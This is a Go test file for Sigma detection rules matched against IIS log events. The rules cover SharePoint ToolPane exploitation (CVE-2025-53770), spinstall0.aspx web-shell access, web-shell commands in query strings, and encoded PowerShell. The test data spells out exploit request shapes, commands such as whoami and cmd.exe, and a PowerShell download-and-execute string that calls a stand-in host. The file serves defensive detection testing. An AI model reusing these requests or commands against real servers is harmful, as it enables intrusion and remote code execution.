package sigma

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite testdata/golden files")

// iis is an event as the IIS parser would give it: the listed fields, and a
// raw W3C line with spaces in header fields written as '+'.
func iis(method, stem, query, referer string, status string, extra ...string) *testEvent {
	kv := []string{"date", "2025-07-19", "time", "07:28:14", "s-ip", "10.0.0.5", "cs-method", method, "cs-uri-stem", stem}
	if query != "" {
		kv = append(kv, "cs-uri-query", query)
	}
	kv = append(kv, "s-port", "443", "c-ip", "104.238.159.149",
		"cs-user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0")
	if referer != "" {
		kv = append(kv, "cs-referer", referer)
	}
	kv = append(kv, "sc-status", status, "time-taken", "312")
	kv = append(kv, extra...)
	e := ev(kv...)
	// IIS writes "-" for absent fields: keep the columns in the raw line.
	raw := string(e.raw)
	if query == "" {
		raw = strings.Replace(raw, stem+" ", stem+" - ", 1)
	}
	if referer == "" {
		raw = strings.Replace(raw, " "+status+" ", " - "+status+" ", 1)
	}
	e.raw = []byte(raw)
	return e
}

func loadTestRules(t testing.TB) map[string]*Rule {
	t.Helper()
	rules, problems, err := LoadDir("testdata/rules")
	if err != nil || len(problems) > 0 {
		t.Fatalf("LoadDir(testdata/rules) = %v, %v", problems, err)
	}
	byName := map[string]*Rule{}
	for _, r := range rules {
		byName[strings.TrimSuffix(filepath.Base(r.File), ".yml")] = r
	}
	return byName
}

func TestGoldenRules(t *testing.T) {
	rules := loadTestRules(t)
	const (
		toolpane = "web_sharepoint_toolpane_exploit_cve_2025_53770"
		spinst   = "web_sharepoint_spinstall_webshell_access"
		cmds     = "web_webshell_commands_in_query"
		encoded  = "web_encoded_powershell_in_request"
	)
	const signout = "https://sp.example.com/_layouts/SignOut.aspx"
	cases := []struct {
		rule string
		name string
		ev   *testEvent
		want bool
	}{
		{toolpane, "exploit /15/", iis("POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit&a=/ToolPane.aspx", "/_layouts/SignOut.aspx", "200"), true},
		{toolpane, "exploit /16/", iis("POST", "/_layouts/16/ToolPane.aspx", "DisplayMode=Edit&a=/ToolPane.aspx", signout, "200"), true},
		{toolpane, "patch bypass trailing slash", iis("POST", "/_layouts/15/ToolPane.aspx/", "DisplayMode=Edit&a=/ToolPane.aspx", signout, "302"), true},
		{toolpane, "renamed parameter", iis("POST", "/_layouts/15/toolpane.aspx", "a=/ToolPane.aspx&displaymode=edit", signout, "200"), true},
		{toolpane, "GET", iis("GET", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit", signout, "200"), false},
		{toolpane, "ordinary edit", iis("POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit", "https://sp.example.com/sites/hr/default.aspx", "200"), false},
		{toolpane, "no referer", iis("POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit", "", "200"), false},
		{toolpane, "view mode", iis("POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=View", signout, "200"), false},
		{toolpane, "other page", iis("POST", "/_layouts/15/start.aspx", "DisplayMode=Edit", signout, "200"), false},

		{spinst, "spinstall0 /15/", iis("GET", "/_layouts/15/spinstall0.aspx", "", "", "200"), true},
		{spinst, "spinstall0 /16/", iis("GET", "/_layouts/16/SPINSTALL0.ASPX", "", "", "200"), true},
		{spinst, "spinstall2", iis("GET", "/_layouts/15/spinstall2.aspx", "", "", "404"), true},
		{spinst, "ghostfile", iis("GET", "/_layouts/15/ghostfile346.aspx", "", "", "200"), true},
		{spinst, "outside layouts", iis("GET", "/sites/x/spinstall0.aspx", "", "", "200"), false},
		{spinst, "other name", iis("GET", "/_layouts/15/start.aspx", "", "", "200"), false},
		{spinst, "backup copy", iis("GET", "/_layouts/15/spinstall0.aspx.bak", "", "", "200"), false},

		{cmds, "whoami", iis("GET", "/_layouts/15/error.aspx", "c=whoami", "", "200"), true},
		{cmds, "cmd.exe encoded", iis("GET", "/uploads/s.aspx", "x=cmd%2Eexe+/c+dir", "", "200"), true},
		{cmds, "powershell", iis("POST", "/uploads/s.aspx", "run=PowerShell+-nop", "", "200"), true},
		{cmds, "not found", iis("GET", "/uploads/s.aspx", "c=whoami", "", "404"), false},
		{cmds, "benign", iis("GET", "/search.aspx", "q=how+to+use+command+prompt", "", "200"), false},

		{encoded, "-enc flag", iis("GET", "/s.aspx", "c=powershell+-enc+SQBFAFgA", "", "200"), true},
		{encoded, "/enc flag", iis("GET", "/s.aspx", "c=powershell%20/enc%20SQBFAFgA", "", "200"), true},
		{encoded, "EncodedCommand", iis("GET", "/s.aspx", "c=powershell.exe+-EncodedCommand+SQBFAFgA", "", "200"), true},
		{encoded, "base64 IEX", iis("GET", "/s.aspx", "p="+b64("$c=1;IEX (New-Object Net.WebClient)"), "", "200"), true},
		{encoded, "base64 wide DownloadString", iis("GET", "/s.aspx", "p="+b64(wide("(New-Object Net.WebClient).DownloadString('http://x/a')")), "", "200"), true},
		{encoded, "powershell only", iis("GET", "/s.aspx", "c=powershell+-nop", "", "200"), false},
		{encoded, "plain IEX", iis("GET", "/s.aspx", "c=IEX+(x)", "", "200"), false},
	}
	for _, tc := range cases {
		t.Run(tc.rule+"/"+tc.name, func(t *testing.T) {
			r := rules[tc.rule]
			if r == nil {
				t.Fatalf("rule %s not loaded", tc.rule)
			}
			if got := r.Match(tc.ev); got != tc.want {
				t.Errorf("Match(%q) = %v, want %v", tc.ev.raw, got, tc.want)
			}
			if lits, ok := r.Literals(); ok && tc.want && !containsLiteral(tc.ev.raw, lits) {
				t.Errorf("Literals() = %q: none in matching line %q", lits, tc.ev.raw)
			}
		})
	}
}

// TestGoldenSummary writes what each test rule compiles to (metadata,
// fields, literals) to testdata/golden/rules.txt; run with -update after a
// deliberate change.
func TestGoldenSummary(t *testing.T) {
	rules, _, err := LoadDir("testdata/rules")
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, r := range rules {
		fmt.Fprintf(&b, "%s\n  id: %s\n  title: %s\n  severity: %s\n  fields: %s\n",
			filepath.ToSlash(r.File), r.ID, r.Title, r.Severity, strings.Join(r.Fields(), ", "))
		lits, ok := r.Literals()
		if !ok {
			b.WriteString("  literals: none\n")
			continue
		}
		var qs []string
		for _, l := range lits {
			qs = append(qs, fmt.Sprintf("%q", l))
		}
		fmt.Fprintf(&b, "  literals: %s\n", strings.Join(qs, " "))
	}
	path := filepath.Join("testdata", "golden", "rules.txt")
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden file (run with -update to create it): %v", err)
	}
	if b.String() != string(want) {
		t.Errorf("rule summary differs from %s (run with -update after a deliberate change):\ngot:\n%s\nwant:\n%s", path, b.String(), want)
	}
}
